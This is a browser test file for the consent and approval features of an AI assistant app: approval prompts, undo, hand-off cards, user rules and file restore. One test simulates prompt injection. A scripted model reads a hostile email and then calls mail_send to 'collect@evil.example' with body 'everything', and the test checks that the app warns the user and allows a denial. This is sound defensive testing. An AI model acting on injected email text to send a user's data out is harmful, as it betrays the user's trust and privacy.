// Consent: what waits for a yes, what can be undone, what is ready for the person, and what they allowed.

import assert from 'node:assert/strict'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { box, closeBrowser, eventually, picture, say, words, world } from './harness.mjs'

after(closeBrowser)

const mail = { name: 'mail_send', args: { to: 'priya@example.com', subject: 'Lunch', body: 'Friday at 1 works.\nSee you there!' } }

// acting makes the model call a tool for each message of the person; what it is asked beside the reply it answers well.
function acting(model, tool, rule = '{"keys": []}') {
  model.script(ask => {
    const system = ask.messages.find(m => m.role === 'system')?.content ?? ''
    if (/check an assistant/.test(system)) return ['{"match": true, "reason": ""}']
    if (/standing rule/.test(system)) return [rule]
    return ask.messages.at(-1).role === 'tool' ? ['Done.'] : [{ tools: [typeof tool === 'function' ? tool(ask) : tool] }]
  })
}

const config = (mode, more = '') => `tools:\n  approvals:\n    mode: "${mode}"\n${more}`
const asked = page => page.getByRole('region', { name: /asks for your permission/ })
const bar = page => page.getByRole('region', { name: /it can still be undone/ })

test('an approval shows what will be sent, and an hour is listed and revoked', async t => {
  const w = await world(t, { pretend: true, config: config('ask') })
  const page = await w.open()
  acting(w.model, mail)
  await say(page, 'Email priya@example.com that Friday at 1 works')
  await asked(page).getByText('Friday at 1 works.').waitFor()
  for (const text of ['To', 'Subject', 'Lunch']) await asked(page).getByText(text, { exact: true }).waitFor()
  await picture(page, 'approval')
  await asked(page).getByRole('button', { name: 'Allow for 1 hour' }).click()
  await bar(page).getByRole('button', { name: 'Send now' }).click()
  await words(page).getByText('Done.').waitFor()
  await page.goto(w.engine.url + '/#/settings/approvals')
  await page.getByText('Mail > Send').waitFor()
  await page.getByRole('button', { name: 'Revoke Send' }).click()
  await page.getByText('Nothing. “Allow for 1 hour”').waitFor()
  assert.deepEqual((await w.engine.api('GET', '/api/approvals/grants')).grants, [])
  assert.deepEqual(w.problems, [])
})

test('undo by the button and by the keyboard; nothing is sent', async t => {
  const w = await world(t, { pretend: true, config: config('off') })
  const page = await w.open()
  acting(w.model, mail)
  await say(page, 'Email priya@example.com that Friday at 1 works')
  await bar(page).getByText(/sending in \d+ s/).waitFor()
  await picture(page, 'undo')
  await bar(page).getByRole('button', { name: 'Undo' }).click()
  await page.locator('details.tool').getByText('undone').waitFor()
  await words(page).getByText('Done.').waitFor()
  await say(page, 'Email priya@example.com again that Friday at 1 works')
  await bar(page).waitFor()
  await page.keyboard.press('Control+z')
  await eventually('both to be undone', async () => (await page.locator('details.tool').getByText('undone').count()) === 2)
  assert.equal(await bar(page).count(), 0)
  await box(page).fill('not empty')
  assert.deepEqual(w.problems, [])
})

test('a window that comes back shows what still waits', async t => {
  const w = await world(t, { pretend: true, config: config('off') })
  const page = await w.open()
  acting(w.model, mail)
  await say(page, 'Email priya@example.com that Friday at 1 works')
  await bar(page).waitFor()
  await page.reload()
  await bar(page).getByRole('button', { name: 'Undo' }).click()
  await page.locator('details.tool').getByText('undone').waitFor()
})

test('what is handed over is ready to copy and to open in the email app', async t => {
  const w = await world(t, { pretend: true, config: config('off', '    rules: {mail: hand_off}\n') })
  const page = await w.open()
  acting(w.model, mail)
  await say(page, 'Email priya@example.com that Friday at 1 works')
  const card = page.getByRole('region', { name: /Ready for you/ })
  await card.getByText('priya@example.com').waitFor()
  assert.match(await card.getByRole('link', { name: 'Open in your email app' }).getAttribute('href'), /^mailto:priya%40example\.com\?subject=Lunch&body=Friday/)
  await card.getByRole('button', { name: 'Copy' }).click()
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /To: priya@example\.com[^]*See you there!/)
})

test('words become a rule by a click; settings say where it came from and take it away', async t => {
  const w = await world(t, { pretend: true, config: config('off') })
  const page = await w.open()
  acting(w.model, { name: 'current_datetime', args: {} }, '{"keys": ["mail_trash", "mail_delete"], "rule": "never"}')
  await say(page, 'Never delete my emails. What time is it?')
  const card = page.getByRole('region', { name: 'Make this a rule?' })
  await card.getByText('Mail > Trash, Mail > Delete').waitFor()
  await words(page).getByText('Done.').waitFor()
  await page.reload()
  await card.getByRole('button', { name: 'Make it a rule' }).click()
  await card.waitFor({ state: 'detached' })
  await page.goto(w.engine.url + '/#/settings/approvals')
  await page.getByText(/From your message on/).first().waitFor()
  await page.setViewportSize({ width: 1200, height: 900 })
  await picture(page, 'rules')
  const select = page.getByLabel('Rule for Trash in Mail')
  assert.equal(await select.inputValue(), 'never')
  await select.selectOption('')
  await eventually('the rule to go', async () => !('mail_trash' in (await w.engine.api('GET', '/api/config')).tools.approvals.rules))
  await page.getByLabel('Find an app or a tool').fill('unlock')
  await page.getByLabel('Rule for Home').selectOption('ask')
  await eventually('the rule to be there', async () => (await w.engine.api('GET', '/api/config')).tools.approvals.rules.home === 'ask')
  await page.getByRole('radio', { name: /Before everything/ }).check()
  await eventually('the mode to be there', async () => (await w.engine.api('GET', '/api/config')).tools.approvals.mode === 'always')
  assert.deepEqual(w.problems, [])
})

test('a hostile email: the chat is marked, what leaves asks with a warning, and trust comes back by a click', async t => {
  const w = await world(t, { pretend: true, config: config('off', '    rules: {mail: allow}\n') })
  const page = await w.open()
  acting(w.model, ask => (ask.messages.some(m => m.role === 'tool' && /parcel/.test(m.content)) ? { name: 'mail_send', args: { to: 'collect@evil.example', body: 'everything' } } : { name: 'mail_read', args: { id: 'm3' } }))
  w.model.next({ tools: [{ name: 'mail_read', args: { id: 'm3' } }] })
  w.model.next({ tools: [{ name: 'mail_send', args: { to: 'collect@evil.example', body: 'everything' } }] })
  await say(page, 'Read my newest email')
  await asked(page).getByText(/came from the text of an email from Support/).waitFor()
  await asked(page).getByText(/Sentient read content from Mail in this chat/).waitFor()
  await picture(page, 'warning')
  assert.deepEqual(await asked(page).getByRole('button', { name: /Allow|Deny/ }).allInnerTexts(), ['Allow once', 'Deny'])
  await asked(page).getByRole('button', { name: 'Deny' }).click()
  await words(page).getByText('Done.').waitFor()
  await page.getByRole('button', { name: /trust this chat/ }).click()
  await page.getByText('You said this chat can be trusted again.').waitFor()
  assert.equal(await page.getByText(/This chat read content/).count(), 0)
})

test('a file that was written over comes back; failures are said', async t => {
  const w = await world(t, { pretend: true, config: config('off') })
  const page = await w.open()
  writeFileSync(join(w.home, 'files/plan.md'), 'the old plan')
  acting(w.model, { name: 'file_write', args: { name: 'plan.md', content: 'the new plan' } })
  await say(page, 'Write the plan')
  await page.getByText('Checked: file written.').waitFor()
  await page.getByRole('button', { name: 'Put back' }).click()
  await page.getByText('Put back 1 file.').waitFor()
  assert.equal(readFileSync(join(w.home, 'files/plan.md'), 'utf8'), 'the old plan')
  acting(w.model, { name: 'mail_send', args: { to: 'bad@example.com', body: 'hi' } })
  await say(page, 'Email bad@example.com hi')
  await bar(page).getByRole('button', { name: 'Send now' }).click()
  await page.getByText(/tried to send the email, but|said it sent the email, but/).waitFor()
})
